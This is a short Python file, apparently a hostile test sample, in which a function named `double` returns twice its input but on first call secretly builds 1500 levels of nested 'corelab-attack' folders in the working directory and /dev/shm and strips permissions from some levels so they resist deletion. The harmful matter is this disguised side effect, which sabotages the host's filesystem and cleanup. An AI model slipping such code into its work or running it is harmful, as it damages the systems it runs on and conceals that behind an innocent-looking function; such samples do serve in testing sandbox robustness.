"""Leave folders nested deeper than Python recurses, some of them closed to everybody."""

import os

DONE = []


def double(x):
    if not DONE:
        DONE.append(x)
        for folder in (os.getcwd(), "/dev/shm"):
            os.chdir(folder)
            opened = []
            for level in range(1500):
                os.mkdir("corelab-attack")
                os.chdir("corelab-attack")
                if level % 250 == 0:
                    opened.append(os.open(".", os.O_RDONLY))
            open("file", "w").close()
            for each in opened:
                os.fchmod(each, 0)
    return 2 * x
